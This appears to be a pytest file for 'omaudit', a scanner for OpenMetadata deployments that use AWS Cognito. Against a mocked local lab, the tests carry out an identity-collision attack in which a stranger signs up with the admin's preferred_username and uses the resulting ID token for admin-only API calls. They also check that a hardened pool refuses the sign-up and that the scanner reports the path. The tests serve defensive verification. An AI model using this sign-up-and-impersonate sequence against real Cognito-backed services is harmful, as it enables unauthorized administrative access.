"""Issue 23's identity collision, performed against the lab end to end: a stranger signs up in the
user pool (moto, over HTTP) with `preferred_username` set to the name of OpenMetadata's admin, signs
in by SRP (the flow the client allows), and calls the lab's OpenMetadata with the ID token. On the
walkthrough scenario that token is the admin; on the hardened one sign-up is refused. This is the lab
testing itself: omaudit never signs up, never authenticates as anyone, never writes to a target."""

from __future__ import annotations

from typing import Any

import boto3
import pytest
import requests
from botocore.exceptions import ClientError

from tests.conftest import AWS_ENV


def _cognito(endpoint: str) -> Any:
    return boto3.client("cognito-idp", endpoint_url=endpoint, region_name="us-east-1",
                        aws_access_key_id=AWS_ENV["AWS_ACCESS_KEY_ID"],
                        aws_secret_access_key=AWS_ENV["AWS_SECRET_ACCESS_KEY"])


def _stranger_token(endpoint: str, client_id: str, claimed: str) -> str:
    idp = _cognito(endpoint)
    idp.sign_up(ClientId=client_id, Username="mallory", Password="Str0ng!Passw0rd-2026",
                UserAttributes=[{"Name": "preferred_username", "Value": claimed},
                                {"Name": "email", "Value": f"{claimed}@evil.example"}])
    idp.confirm_sign_up(ClientId=client_id, Username="mallory", ConfirmationCode="000000")  # the stranger's inbox
    started = idp.initiate_auth(ClientId=client_id, AuthFlow="USER_SRP_AUTH",
                                AuthParameters={"USERNAME": "mallory", "SRP_A": "a1"})
    answer = idp.respond_to_auth_challenge(
        ClientId=client_id, ChallengeName="PASSWORD_VERIFIER",
        ChallengeResponses={"USERNAME": "mallory", "PASSWORD_CLAIM_SIGNATURE": "proof",
                            "PASSWORD_CLAIM_SECRET_BLOCK": started["ChallengeParameters"]["SECRET_BLOCK"],
                            "TIMESTAMP": "Thu Dec 3 09:00:00 UTC 2026"})
    return str(answer["AuthenticationResult"]["IdToken"])


def test_a_stranger_signs_up_and_acts_as_openmetadatas_admin(lab_factory: Any) -> None:
    lab = lab_factory("seed-walkthrough")
    admin_only = f"{lab.url}/api/v1/system/security/config"
    assert requests.get(admin_only, timeout=10).status_code == 401
    token = _stranger_token(lab.aws_endpoint_url, lab.pool.client_id, "alice")
    answer = requests.get(admin_only, headers={"Authorization": f"Bearer {token}"}, timeout=10)
    assert answer.status_code == 200, answer.text  # alice is an admin; the token is mallory's
    me = requests.get(f"{lab.url}/api/v1/users/name/alice", headers={"Authorization": f"Bearer {token}"},
                      timeout=10)
    assert me.status_code == 200 and me.json()["isAdmin"] is True


def test_the_hardened_pool_refuses_the_stranger(lab_factory: Any) -> None:
    lab = lab_factory("hardened")
    with pytest.raises(ClientError) as refused:
        _stranger_token(lab.aws_endpoint_url, lab.pool.client_id, "alice")
    assert refused.value.response["Error"]["Code"] == "NotAuthorizedException"
    assert refused.value.response["Error"]["Message"] == "SignUp is not permitted for this user pool"


def test_the_scan_shows_the_path_the_attack_above_takes(lab_factory: Any) -> None:
    """What omaudit reports, passively, is the path the first test walks: sign-up in the pool, then a
    token whose preferred_username is the admin's name."""
    from tests.conftest import run_cli, scan_args

    lab = lab_factory("seed-walkthrough")
    result = run_cli("scan", *scan_args(lab), "-f", "json", env={"OMAUDIT_OM_TOKEN": lab.admin_token})
    assert result.code == 1, result.stderr
    paths = {p["id"]: p for p in result.json()["attack_paths"]}
    assert sorted(paths) == ["OMA-P1", "OMA-P4"]
    assert [s["rule_id"] for s in paths["OMA-P1"]["steps"]] == ["OMA205", "OMA117"]
    assert paths["OMA-P1"]["story"] == (
        f"A stranger signs up in user pool {lab.pool.pool_id} with preferred_username `admin`, gets a token from the "
        "pool, and acts as OpenMetadata's administrator `admin`.")
    # The path as reported is walkable: with the name it gives, the stranger's token is that administrator.
    token = _stranger_token(lab.aws_endpoint_url, lab.pool.client_id, "admin")
    me = requests.get(f"{lab.url}/api/v1/users/name/admin", headers={"Authorization": f"Bearer {token}"}, timeout=10)
    assert me.status_code == 200 and me.json()["isAdmin"] is True
    assert requests.get(f"{lab.url}/api/v1/system/security/config", headers={"Authorization": f"Bearer {token}"},
                        timeout=10).status_code == 200
    assert [s["rule_id"] for s in paths["OMA-P4"]["steps"]] == ["OMA104", "OMA102"]


def test_the_hardened_scan_shows_no_path(lab_factory: Any) -> None:
    from tests.conftest import run_cli, scan_args

    lab = lab_factory("hardened")
    result = run_cli("scan", *scan_args(lab), "-f", "json", env={"OMAUDIT_OM_TOKEN": lab.admin_token})
    assert result.code == 0, result.stderr
    assert "attack_paths" not in result.json()
